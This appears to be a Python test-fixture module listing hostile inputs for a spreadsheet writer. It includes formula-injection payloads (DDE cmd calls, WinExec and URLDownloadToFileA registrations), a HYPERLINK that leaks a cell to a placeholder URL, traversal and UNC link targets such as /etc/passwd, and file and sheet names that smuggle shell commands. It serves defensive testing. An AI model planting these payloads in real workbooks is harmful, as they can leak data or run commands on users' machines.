"""What an attacker writes into a workbook: formulas in text, calls that reach out, names that climb out of folders."""

from __future__ import annotations

# Text that a careless writer would turn into a formula.
TEXTS = [
    "=1+1", "=1+1\n", " =1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", "=A1&\"x\"", "'=1+1", "\uff1d1+1",
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "=HYPERLINK(\"{url}?leak=\"&A1,\"click\")", "=WEBSERVICE(\"{url}\")", "=IMAGE(\"{url}\")", "{{=1+1}}",
    "<script>alert(1)</script>", "=1+1</t></is></c><c><f>1+1</f>", "]]><f>1</f>", "&lt;f&gt;1&lt;/f&gt;", "_x003D_1+1",
]  # fmt: skip

# Formulas that would run or fetch something, in Excel or in another program.
FORMULAS = [
    'HYPERLINK("{url}","click")', 'WEBSERVICE("{url}")', 'IMAGE("{url}")', 'IMPORTXML("{url}","//a")',
    'IMPORTDATA("{url}")', 'FILTERXML(WEBSERVICE("{url}"),"//a")', 'RTD("evil.server","","x")', 'RTD("x","{host}","y")',
    'CALL("kernel32","WinExec","JCJ","calc",5)', 'REGISTER("urlmon","URLDownloadToFileA","JJCCJJ","X",,1,9)',
    'REGISTER.ID("kernel32","WinExec")', 'EXEC("touch {mark}")', 'SHELL("touch {mark}")', 'RUN("Macro1")',
    'DDE("soffice","{mark}","A1")', "cmd|'/C touch {mark}'!A0", 'INDIRECT("\'[{url}/x.xlsx]S\'!A1")',
    'INDIRECT("\'file:///etc/[passwd]S\'!A1")', "'file:///etc/[passwd]S'!A1", "'{url}/[x.xlsx]S'!A1",
    'CUBEVALUE("{url}","x")', 'STOCKHISTORY("MSFT",1)', 'SQL.REQUEST("DSN=x","","select 1")', 'EVALUATE("1+1")',
    'PY(0,1)', '_xll.EVIL("touch {mark}")', '_xldudf_EVIL("touch {mark}")', 'GETPIVOTDATA("x",A1)', 'INFO("directory")',
    'CELL("filename")', 'DETECTLANGUAGE("x")', 'TRANSLATE("x","en","de")', 'GET.WORKSPACE(1)', 'FOPEN("{mark}",3)',
]  # fmt: skip

# Targets of links; none may be opened.
TARGETS = [
    "{url}/x.xlsx", "\\\\{host}\\share\\x.xlsx", "file://{host}/share/x.xlsx", "file:///etc/passwd", "../../../../etc/passwd",
    "/etc/passwd", "C:\\Windows\\win.ini", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "ftp://{host}/x.xlsx", "\x00x.xlsx",
    "smb://{host}/x.xlsx", "data:text/plain,x", "javascript:alert(1)", "a.xlsx#../../b", "-o ProxyCommand=touch {mark}",
]  # fmt: skip

# Names of sheets and defined names.
NAMES = [
    "../../evil",
    "..\\..\\evil",
    "/etc/passwd",
    "C:\\evil",
    "=1+1",
    "@SUM(1)",
    "CON",
    "$(touch {mark})",
    "`touch {mark}`",
    "a;touch {mark}",
]

# Names of workbook files, as far as a file system can hold them.
FILES = [
    "%2e%2e%2fevil.xlsx",
    "=cmd.xlsx",
    "-rf.xlsx",
    "$(touch evil).xlsx",
    "a;b.xlsx",
    "a\\..\\..\\evil.xlsx",
    "%00.xlsx",
    "con.xlsx",
]
